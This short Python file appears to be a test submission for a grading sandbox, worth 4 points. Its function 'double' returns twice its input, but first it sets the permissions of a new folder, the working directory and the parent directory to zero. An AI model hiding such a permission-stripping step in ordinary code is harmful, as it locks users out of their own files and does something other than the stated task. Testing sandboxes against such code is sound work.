"""The working folder, and the one around it, may not be read any more."""

# points: 4
import os


def double(number):
    here = os.getcwd()
    os.mkdir("inside")
    os.chmod("inside", 0)
    os.chmod(here, 0)
    os.chmod(os.path.dirname(here), 0)
    return 2 * number
